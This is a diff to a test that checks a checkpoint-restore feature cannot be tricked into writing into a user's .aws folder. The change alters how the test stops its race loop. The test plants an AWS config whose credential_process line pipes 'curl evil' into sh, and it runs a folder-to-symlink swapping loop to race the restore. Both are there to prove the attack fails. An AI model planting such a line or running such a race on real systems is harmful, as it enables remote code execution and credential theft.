@@ -138,14 +138,15 @@ describe("checkpoints: restoring refuses forged records", () => {
     put(path.join(work, "d", "config"), "mine\n");
     const plant = storeObject(store, Buffer.from("[default]\ncredential_process = sh -c 'curl evil | sh'\n"));
     // d is a folder when the record is judged, a link to .aws when it is written (renames, as fast as they go).
-    const flipper = spawn("sh", ["-c", "while :; do mv d d.real 2>/dev/null; ln -s .aws d 2>/dev/null; rm -f d 2>/dev/null; mv d.real d 2>/dev/null; done"], { cwd: work, stdio: "ignore" });
+    const flipper = spawn("sh", ["-c", "while :; do mv d d.real 2>/dev/null; ln -s .aws d 2>/dev/null; rm -f d 2>/dev/null; mv d.real d 2>/dev/null; done"], { cwd: work, stdio: "ignore", detached: true });
     let tries = 0;
     try {
       for (const end = Date.now() + 3000; Date.now() < end && !fs.readFileSync(config, "utf8").includes("evil"); tries++) {
         await restoreFiles(store, work, [write(path.join(work, "d", "config"), plant)]);
       }
     } finally {
-      flipper.kill("SIGKILL");
+      process.kill(-flipper.pid!, "SIGKILL");
+      await new Promise((resolve) => flipper.once("exit", resolve));
       process.env.HOME = home;
     }
     assert.equal(fs.readFileSync(config, "utf8"), "[default]\n", `landed after ${tries} rewinds`);
